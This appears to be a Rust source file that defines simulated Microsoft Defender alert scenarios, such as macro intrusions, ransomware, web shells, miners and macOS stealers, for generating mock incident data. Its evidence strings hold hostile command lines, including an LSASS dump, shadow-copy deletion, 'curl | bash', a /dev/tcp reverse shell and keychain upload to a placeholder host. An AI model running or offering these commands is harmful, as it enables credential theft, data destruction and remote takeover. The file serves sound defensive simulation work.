@@ -1,0 +1,644 @@
+//! Campaigns on devices: Windows, Linux and macOS.
+
+use super::{
+    Account::{Person, Root, System},
+    Ending, Image, Item, Platform, Sensor, Step, Story, dropped, installed, run, windows,
+};
+
+const ADVICE: &str = "Collect artifacts and determine scope\n•\tReview the device timeline for activity shortly before and after the alert, and note related files, addresses and accounts.\n•\tLook for the same artifacts on other devices.\n•\tSubmit files that are not yet detected for deep analysis.\n\nInitiate containment & mitigation\n•\tContact the user to verify intent.\n•\tIsolate the device if the activity is confirmed.\n•\tIf credential theft is suspected, reset the passwords of the accounts concerned.\n•\tBlock the URLs and addresses at the organization's perimeter.";
+/// As some sources send it: the bullets were lost on the way (QUIRKS.md).
+const ADVICE_DAMAGED: &str = "Verify the detection\n\u{FFFD}\tCheck whether the file was expected on this device.\n\u{FFFD}\tUpdate AV signatures and run a full scan.\n\nMitigate\n\u{FFFD}\tRemove the file and the source it came from.";
+
+const EDR: Sensor = Sensor {
+    service: "microsoftDefenderForEndpoint",
+    detection: "microsoftDefenderForEndpoint",
+    product: "Microsoft Defender for Endpoint",
+    prefix: "da",
+    advice: ADVICE,
+};
+const ANTIVIRUS: Sensor = Sensor { detection: "antivirus", advice: ADVICE_DAMAGED, ..EDR };
+const SMART_SCREEN: Sensor = Sensor { detection: "smartScreen", ..EDR };
+const CUSTOM_TI: Sensor = Sensor { detection: "customTi", ..EDR };
+const INVESTIGATION: Sensor = Sensor { detection: "automatedInvestigation", ..EDR };
+const XDR: Sensor = Sensor {
+    service: "microsoft365Defender",
+    detection: "microsoft365Defender",
+    product: "Microsoft Defender XDR",
+    prefix: "ra",
+    advice: ADVICE,
+};
+const CUSTOM_DETECTION: Sensor = Sensor { detection: "customDetection", prefix: "ed", ..XDR };
+
+const EXPLORER: Image = installed("C:\\Windows", "explorer.exe", "Microsoft Corporation", 5_301_120);
+const SERVICES: Image = windows("services.exe", 731_744);
+const SVCHOST: Image = windows("svchost.exe", 55_320);
+const CMD: Image = windows("cmd.exe", 289_792);
+const RUNDLL32: Image = windows("rundll32.exe", 71_680);
+const MSHTA: Image = windows("mshta.exe", 14_848);
+const REG: Image = windows("reg.exe", 77_824);
+const VSSADMIN: Image = windows("vssadmin.exe", 142_336);
+const WBADMIN: Image = windows("wbadmin.exe", 274_432);
+const NET: Image = windows("net1.exe", 183_808);
+const SCHTASKS: Image = windows("schtasks.exe", 235_008);
+const POWERSHELL: Image = installed(
+    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
+    "powershell.exe",
+    "Microsoft Corporation",
+    450_560,
+);
+const WINWORD: Image = installed(
+    "C:\\Program Files\\Microsoft Office\\root\\Office16",
+    "WINWORD.EXE",
+    "Microsoft Corporation",
+    1_637_000,
+);
+const EDGE: Image = installed(
+    "C:\\Program Files (x86)\\Microsoft\\Edge\\Application",
+    "msedge.exe",
+    "Microsoft Corporation",
+    4_210_720,
+);
+const AGENT: Image =
+    installed("C:\\Program Files\\Contoso\\DeployAgent", "deployagent.exe", "Contoso Ltd", 8_441_360);
+const MACRO: Image = dropped("C:\\Users\\<account>\\Downloads", "Invoice_<n>.docm", 88_412);
+const BEACON: Image = dropped("C:\\Users\\<account>\\AppData\\Local\\Temp", "msupd<n>.dll", 312_320);
+const PSEXEC: Image = dropped("C:\\Windows", "PSEXESVC.exe", 189_792);
+const LURE: Image = dropped("C:\\Users\\<account>\\Downloads", "browser_update_<n>.hta", 6_144);
+const STEALER: Image = dropped("C:\\ProgramData", "svc_<n>.exe", 1_204_224);
+const DUMP: Image = dropped("C:\\Windows\\Temp", "d<n>.dmp", 52_428_800);
+const LOCKER: Image = dropped("C:\\PerfLogs", "lck<n>.exe", 702_464);
+const NOTE: Image = dropped("C:\\Users\\Public\\Desktop", "RESTORE-FILES.txt", 1_892);
+const TROJAN: Image = dropped("C:\\Users\\<account>\\Downloads", "setup_<n>.exe", 2_408_448);
+const TOOLBAR: Image = dropped("C:\\Users\\<account>\\Downloads", "pdf-converter-free_<n>.exe", 3_910_144);
+const BASH: Image = installed("/usr/bin", "bash", "Canonical", 1_396_520);
+const DASH: Image = installed("/usr/bin", "dash", "Canonical", 125_688);
+const CURL: Image = installed("/usr/bin", "curl", "Canonical", 260_328);
+const CRON: Image = installed("/usr/sbin", "cron", "Canonical", 55_944);
+const SSHD: Image = installed("/usr/sbin", "sshd", "Canonical", 921_288);
+const PHP: Image = installed("/usr/sbin", "php-fpm8.1", "Canonical", 5_672_336);
+const MINER: Image = dropped("/tmp/.X11-unix", "kworkerds", 2_979_640);
+const WEB_SHELL: Image = dropped("/var/www/html/uploads", "img_<n>.php", 2_213);
+const ZSH: Image = installed("/bin", "zsh", "Apple Inc.", 1_361_200);
+const OSASCRIPT: Image = installed("/usr/bin", "osascript", "Apple Inc.", 203_168);
+const DMG_APP: Image = dropped("/Volumes/Installer/Installer.app/Contents/MacOS", "Installer", 1_877_504);
+
+pub(super) const STORIES: &[Story] = &[
+    Story {
+        weight: 9,
+        platform: Platform::Workstation,
+        spread: 4,
+        ending: Ending::Attack("multiStagedAttack"),
+        steps: &[
+            Step {
+                title: "Suspicious PowerShell command line",
+                description: "An Office application started PowerShell with an encoded command that downloads and runs further code. Documents with macros are a usual first step of an intrusion.",
+                severity: "medium",
+                category: "Execution",
+                techniques: &["T1059.001", "T1204.002", "T1027"],
+                sensor: &EDR,
+                threat: None,
+                evidence: &[
+                    Item::Device,
+                    Item::User,
+                    run(
+                        &EXPLORER,
+                        &WINWORD,
+                        Person,
+                        "unknown",
+                        "\"WINWORD.EXE\" /n \"C:\\Users\\<account>\\Downloads\\Invoice_<n>.docm\" /o \"\"",
+                    ),
+                    run(
+                        &WINWORD,
+                        &POWERSHELL,
+                        Person,
+                        "malicious",
+                        "powershell.exe -nop -w hidden -enc <b64>",
+                    ),
+                    Item::File(&MACRO, "malicious"),
+                    Item::Url("http://<domain>/stage/<n>"),
+                ],
+            },
+            Step {
+                title: "Suspicious module loaded by rundll32.exe",
+                description: "rundll32.exe ran an export of an unsigned library in a temporary folder and then opened a connection to an external host.",
+                severity: "high",
+                category: "CommandAndControl",
+                techniques: &["T1218.011", "T1071.001"],
+                sensor: &EDR,
+                threat: Some(("Behavior:Win32/Beaconer.A", "Beaconer")),
+                evidence: &[
+                    Item::Device,
+                    Item::User,
+                    run(
+                        &POWERSHELL,
+                        &RUNDLL32,
+                        Person,
+                        "malicious",
+                        "rundll32.exe C:\\Users\\<account>\\AppData\\Local\\Temp\\msupd<n>.dll,DllRegisterServer",
+                    ),
+                    Item::File(&BEACON, "malicious"),
+                    Item::Address,
+                    Item::Url("https://<domain>/api/v2/status"),
+                ],
+            },
+            Step {
+                title: "Anomaly detected in ASEP registry",
+                description: "A process wrote an autostart entry that launches a library from a user's temporary folder each time the user signs in.",
+                severity: "medium",
+                category: "Persistence",
+                techniques: &["T1547.001", "T1112"],
+                sensor: &EDR,
+                threat: None,
+                evidence: &[
+                    Item::Device,
+                    run(
+                        &RUNDLL32,
+                        &REG,
+                        Person,
+                        "suspicious",
+                        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v OneDriveSync /d \"rundll32 msupd<n>.dll,Start\" /f",
+                    ),
+                    Item::RegistryKey("SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"),
+                    Item::RegistryValue(
+                        "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
+                        "OneDriveSync",
+                        "rundll32 C:\\Users\\<account>\\AppData\\Local\\Temp\\msupd<n>.dll,Start",
+                    ),
+                    Item::User,
+                ],
+            },
+            Step {
+                title: "Multi-stage incident involving Execution & Command and control on one endpoint",
+                description: "Signals of several stages of an attack were correlated on the same device.",
+                severity: "high",
+                category: "SuspiciousActivity",
+                techniques: &["T1059.001", "T1071.001"],
+                sensor: &XDR,
+                threat: None,
+                evidence: &[Item::Device, Item::User, Item::Address],
+            },
+        ],
+    },
+    Story {
+        weight: 5,
+        platform: Platform::Server,
+        spread: 6,
+        ending: Ending::Attack("compromisedAccount"),
+        steps: &[
+            Step {
+                title: "Suspicious remote activity: PsExec service started",
+                description: "A service was installed over the network and started a command shell. Administrators use this tool too; here the account had not used it on this server before.",
+                severity: "medium",
+                category: "LateralMovement",
+                techniques: &["T1569.002", "T1021.002"],
+                sensor: &EDR,
+                threat: None,
+                evidence: &[
+                    Item::Device,
+                    Item::User,
+                    run(&SERVICES, &PSEXEC, System, "suspicious", "C:\\Windows\\PSEXESVC.exe"),
+                    run(
+                        &PSEXEC,
+                        &CMD,
+                        System,
+                        "suspicious",
+                        "\"cmd.exe\" /c whoami /all & net group \"Domain Admins\" /domain",
+                    ),
+                    run(&CMD, &NET, System, "suspicious", "net1 group \"Domain Admins\" /domain"),
+                    Item::File(&PSEXEC, "suspicious"),
+                ],
+            },
+            Step {
+                title: "Sensitive credential memory read",
+                description: "The memory of lsass.exe was written to a file, from which passwords and tickets can be taken.",
+                severity: "high",
+                category: "CredentialAccess",
+                techniques: &["T1003.001"],
+                sensor: &EDR,
+                threat: Some(("HackTool:Win32/DumpLsass.D", "DumpLsass")),
+                evidence: &[
+                    Item::Device,
+                    Item::User,
+                    run(
+                        &CMD,
+                        &RUNDLL32,
+                        System,
+                        "malicious",
+                        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Windows\\Temp\\d<n>.dmp full",
+                    ),
+                    Item::File(&DUMP, "malicious"),
+                ],
+            },
+        ],
+    },
+    Story {
+        weight: 3,
+        platform: Platform::Server,
+        spread: 5,
+        ending: Ending::Attack("malware"),
+        steps: &[
+            Step {
+                title: "File backups were deleted",
+                description: "Shadow copies and the backup catalogue were deleted. Ransomware does this so that files cannot be restored.",
+                severity: "medium",
+                category: "Impact",
+                techniques: &["T1490"],
+                sensor: &EDR,
+                threat: None,
+                evidence: &[
+                    Item::Device,
+                    run(
+                        &SVCHOST,
+                        &LOCKER,
+                        System,
+                        "malicious",
+                        "C:\\PerfLogs\\lck<n>.exe --paths \\\\<peer>\\finance$ --threads 16",
+                    ),
+                    run(
+                        &LOCKER,
+                        &CMD,
+                        System,
+                        "malicious",
+                        "cmd.exe /c vssadmin delete shadows /all /quiet & wbadmin delete catalog -quiet",
+                    ),
+                    run(&CMD, &VSSADMIN, System, "malicious", "vssadmin delete shadows /all /quiet"),
+                    run(&CMD, &WBADMIN, System, "malicious", "wbadmin delete catalog -quiet"),
+                ],
+            },
+            Step {
+                title: "Ransomware behavior detected in the file system",
+                description: "A process renamed and rewrote many files in a short time and left a note in each folder.",
+                severity: "high",
+                category: "Ransomware",
+                techniques: &["T1486"],
+                sensor: &EDR,
+                threat: Some(("Ransom:Win64/Cypherlock.A", "Cypherlock")),
+                evidence: &[
+                    Item::Device,
+                    Item::User,
+                    run(
+                        &SVCHOST,
+                        &LOCKER,
+                        System,
+                        "malicious",
+                        "C:\\PerfLogs\\lck<n>.exe --paths \\\\<peer>\\finance$ --threads 16",
+                    ),
+                    Item::File(&LOCKER, "malicious"),
+                    Item::File(&NOTE, "suspicious"),
+                    Item::RegistryValue("SYSTEM\\CurrentControlSet\\Services\\VSS", "Start", "4"),
+                ],
+            },
+            Step {
+                title: "Ransomware activity from one device was contained (attack disruption)",
+                description: "The account behind the encryption was disabled and the device contained automatically.",
+                severity: "high",
+                category: "Ransomware",
+                techniques: &["T1486", "T1078.002"],
+                sensor: &XDR,
+                threat: Some(("Ransom:Win64/Cypherlock.A", "Cypherlock")),
+                evidence: &[Item::Device, Item::User, Item::File(&LOCKER, "malicious")],
+            },
+        ],
+    },
+    Story {
+        weight: 8,
+        platform: Platform::Workstation,
+        spread: 3,
+        ending: Ending::Attack("malware"),
+        steps: &[
+            Step {
+                title: "Suspicious use of mshta.exe",
+                description: "mshta.exe ran a script from a downloaded file. Fake browser updates are spread in this way.",
+                severity: "medium",
+                category: "DefenseEvasion",
+                techniques: &["T1218.005", "T1204.002"],
+                sensor: &EDR,
+                threat: None,
+                evidence: &[
+                    Item::Device,
+                    Item::User,
+                    run(
+                        &EXPLORER,
+                        &MSHTA,
+                        Person,
+                        "malicious",
+                        "\"mshta.exe\" \"C:\\Users\\<account>\\Downloads\\browser_update_<n>.hta\"",
+                    ),
+                    run(
+                        &MSHTA,
+                        &POWERSHELL,
+                        Person,
+                        "malicious",
+                        "powershell -ep bypass -c \"iwr https://<domain>/u -OutFile C:\\ProgramData\\svc_<n>.exe; C:\\ProgramData\\svc_<n>.exe\"",
+                    ),
+                    Item::File(&LURE, "malicious"),
+                    Item::Url("https://<domain>/update/chrome"),
+                ],
+            },
+            Step {
+                title: "Possible theft of passwords and other sensitive web browser information",
+                description: "A process that is not a browser read the credential stores of the installed browsers.",
+                severity: "medium",
+                category: "CredentialAccess",
+                techniques: &["T1555.003"],
+                sensor: &EDR,
+                threat: Some(("Trojan:Win32/Lumitake.RB", "Lumitake")),
+                evidence: &[
+                    Item::Device,
+                    Item::User,
+                    run(&POWERSHELL, &STEALER, Person, "malicious", "C:\\ProgramData\\svc_<n>.exe"),
+                    Item::File(&STEALER, "malicious"),
+                    Item::Address,
+                ],
+            },
+        ],
+    },
+    Story {
+        weight: 40,
+        platform: Platform::Workstation,
+        spread: 3,
+        ending: Ending::Nuisance,
+        steps: &[Step {
+            title: "'Wacapew' malware was prevented",
+            description: "The antivirus stopped a file before it ran. The file matches a family of trojans that install other malware.",
+            severity: "low",
+            category: "Malware",
+            techniques: &["T1204.002"],
+            sensor: &ANTIVIRUS,
+            threat: Some(("Trojan:Win32/Wacapew.C!ml", "Wacapew")),
+            evidence: &[Item::Device, Item::User, Item::File(&TROJAN, "malicious")],
+        }],
+    },
+    Story {
+        weight: 18,
+        platform: Platform::Workstation,
+        spread: 2,
+        ending: Ending::Nuisance,
+        steps: &[Step {
+            title: "'FreeConvert' unwanted software was detected",
+            description: "A program with a poor reputation was found. It changes browser settings and shows advertisements.",
+            severity: "informational",
+            category: "UnwantedSoftware",
+            techniques: &[],
+            sensor: &ANTIVIRUS,
+            threat: Some(("PUA:Win32/FreeConvert", "FreeConvert")),
+            evidence: &[Item::Device, Item::File(&TOOLBAR, "suspicious")],
+        }],
+    },
+    Story {
+        weight: 7,
+        platform: Platform::Workstation,
+        spread: 2,
+        ending: Ending::Attack("phishing"),
+        steps: &[Step {
+            title: "Malicious URL was clicked on that device",
+            description: "A user followed a link that SmartScreen knows as phishing.",
+            severity: "low",
+            category: "InitialAccess",
+            techniques: &["T1566.002"],
+            sensor: &SMART_SCREEN,
+            threat: None,
+            evidence: &[
+                Item::Device,
+                Item::User,
+                run(
+                    &EXPLORER,
+                    &EDGE,
+                    Person,
+                    "unknown",
+                    "\"msedge.exe\" --single-argument https://<domain>/login",
+                ),
+                Item::Url("https://<domain>/login?u=<upn>"),
+            ],
+        }],
+    },
+    Story {
+        weight: 7,
+        platform: Platform::Workstation,
+        spread: 3,
+        ending: Ending::Benign,
+        steps: &[
+            Step {
+                title: "Suspicious scheduled task creation",
+                description: "A task was created that runs a script from a network share at each start.",
+                severity: "low",
+                category: "Persistence",
+                techniques: &["T1053.005"],
+                sensor: &CUSTOM_DETECTION,
+                threat: None,
+                evidence: &[
+                    Item::Device,
+                    Item::User,
+                    run(&SERVICES, &AGENT, System, "noThreatsFound", "\"deployagent.exe\" --service"),
+                    run(
+                        &AGENT,
+                        &SCHTASKS,
+                        System,
+                        "unknown",
+                        "schtasks /create /tn \\Contoso\\Inventory /sc onstart /ru SYSTEM /tr \"powershell -file \\\\<peer>\\deploy$\\inventory.ps1\"",
+                    ),
+                ],
+            },
+            Step {
+                title: "Suspicious sequence of exploration activities",
+                description: "Several commands that list accounts, groups and network settings ran within a minute.",
+                severity: "low",
+                category: "Discovery",
+                techniques: &["T1016", "T1033", "T1087.002"],
+                sensor: &INVESTIGATION,
+                threat: None,
+                evidence: &[
+                    Item::Device,
+                    run(
+                        &AGENT,
+                        &CMD,
+                        System,
+                        "noThreatsFound",
+                        "cmd.exe /c ipconfig /all & whoami & net user <account> /domain",
+                    ),
+                ],
+            },
+        ],
+    },
+    Story {
+        weight: 4,
+        platform: Platform::Workstation,
+        spread: 5,
+        ending: Ending::Attack("apt"),
+        steps: &[Step {
+            title: "Connection to an address on the custom indicator list",
+            description: "A device connected to an address that the organization's own indicator list marks as hostile.",
+            severity: "high",
+            category: "CommandAndControl",
+            techniques: &["T1071", "T1573"],
+            sensor: &CUSTOM_TI,
+            threat: None,
+            evidence: &[
+                Item::Device,
+                Item::Address,
+                run(
+                    &SERVICES,
+                    &SVCHOST,
+                    System,
+                    "suspicious",
+                    "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule",
+                ),
+            ],
+        }],
+    },
+    Story {
+        weight: 5,
+        platform: Platform::Linux,
+        spread: 5,
+        ending: Ending::Attack("malware"),
+        steps: &[
+            Step {
+                title: "Suspicious file dropped and launched",
+                description: "A script was fetched with curl and handed to a shell, which started a program from a hidden folder.",
+                severity: "medium",
+                category: "Execution",
+                techniques: &["T1059.004", "T1105"],
+                sensor: &EDR,
+                threat: None,
+                evidence: &[
+                    Item::Device,
+                    run(&CRON, &DASH, Root, "suspicious", "/bin/sh -c curl -fsSL http://<ip>/i.sh | bash"),
+                    run(&DASH, &CURL, Root, "suspicious", "curl -fsSL http://<ip>/i.sh"),
+                    run(&DASH, &BASH, Root, "malicious", "bash"),
+                    Item::Address,
+                    Item::Url("http://<ip>/i.sh"),
+                ],
+            },
+            Step {
+                title: "Possible cryptocurrency miner",
+                description: "A process keeps all processors busy and talks to a mining pool.",
+                severity: "medium",
+                category: "Impact",
+                techniques: &["T1496"],
+                sensor: &EDR,
+                threat: Some(("Trojan:Linux/CoinMiner.K", "CoinMiner")),
+                evidence: &[
+                    Item::Device,
+                    run(
+                        &BASH,
+                        &MINER,
+                        Root,
+                        "malicious",
+                        "/tmp/.X11-unix/kworkerds -o <domain>:3333 -u 44<n>.<host> -k --donate-level=0",
+                    ),
+                    Item::File(&MINER, "malicious"),
+                    Item::Address,
+                ],
+            },
+        ],
+    },
+    Story {
+        weight: 4,
+        platform: Platform::Linux,
+        spread: 2,
+        ending: Ending::Attack("multiStagedAttack"),
+        steps: &[
+            Step {
+                title: "Suspicious process launched by a web server",
+                description: "A web server's worker started a shell. A web shell in the upload folder is the likely cause.",
+                severity: "high",
+                category: "Persistence",
+                techniques: &["T1505.003", "T1190"],
+                sensor: &EDR,
+                threat: None,
+                evidence: &[
+                    Item::Device,
+                    run(&PHP, &DASH, Root, "malicious", "sh -c id; uname -a; cat /etc/passwd"),
+                    Item::File(&WEB_SHELL, "malicious"),
+                    Item::Address,
+                    Item::Url("https://shop.contoso.com/uploads/img_<n>.php?c=id"),
+                ],
+            },
+            Step {
+                title: "Reverse shell from a web server process",
+                description: "A shell's input and output are tied to a network connection to an external host.",
+                severity: "high",
+                category: "CommandAndControl",
+                techniques: &["T1059.004", "T1095"],
+                sensor: &EDR,
+                threat: None,
+                evidence: &[
+                    Item::Device,
+                    run(&DASH, &BASH, Root, "malicious", "bash -c 'bash -i >& /dev/tcp/<ip>/4444 0>&1'"),
+                    Item::Address,
+                ],
+            },
+        ],
+    },
+    Story {
+        weight: 5,
+        platform: Platform::Linux,
+        spread: 4,
+        ending: Ending::Attack("compromisedAccount"),
+        steps: &[Step {
+            title: "SSH brute-force attack with a successful sign-in",
+            description: "Many failed sign-ins over SSH from one address were followed by a successful one.",
+            severity: "medium",
+            category: "CredentialAccess",
+            techniques: &["T1110.001", "T1021.004"],
+            sensor: &EDR,
+            threat: None,
+            evidence: &[
+                Item::Device,
+                Item::User,
+                Item::Address,
+                run(&SSHD, &BASH, Person, "suspicious", "-bash"),
+            ],
+        }],
+    },
+    Story {
+        weight: 4,
+        platform: Platform::MacOs,
+        spread: 2,
+        ending: Ending::Attack("malware"),
+        steps: &[
+            Step {
+                title: "Suspicious AppleScript prompt for a password",
+                description: "An installer from a disk image asked for the user's password with a script of its own.",
+                severity: "medium",
+                category: "CredentialAccess",
+                techniques: &["T1056.002", "T1059.002"],
+                sensor: &EDR,
+                threat: None,
+                evidence: &[
+                    Item::Device,
+                    Item::User,
+                    run(
+                        &DMG_APP,
+                        &OSASCRIPT,
+                        Person,
+                        "malicious",
+                        "osascript -e 'display dialog \"macOS needs your password\" default answer \"\" with hidden answer'",
+                    ),
+                    Item::File(&DMG_APP, "malicious"),
+                ],
+            },
+            Step {
+                title: "Keychain contents were archived and sent out",
+                description: "The login keychain and browser profiles were packed and uploaded to an external host.",
+                severity: "high",
+                category: "Exfiltration",
+                techniques: &["T1555.001", "T1567"],
+                sensor: &EDR,
+                threat: Some(("Trojan:MacOS/Amosine.A", "Amosine")),
+                evidence: &[
+                    Item::Device,
+                    Item::User,
+                    run(
+                        &OSASCRIPT,
+                        &ZSH,
+                        Person,
+                        "malicious",
+                        "zsh -c ditto -c -k ~/Library/Keychains /tmp/o<n>.zip && curl -F f=@/tmp/o<n>.zip http://<ip>/log",
+                    ),
+                    Item::Address,
+                ],
+            },
+        ],
+    },
+];
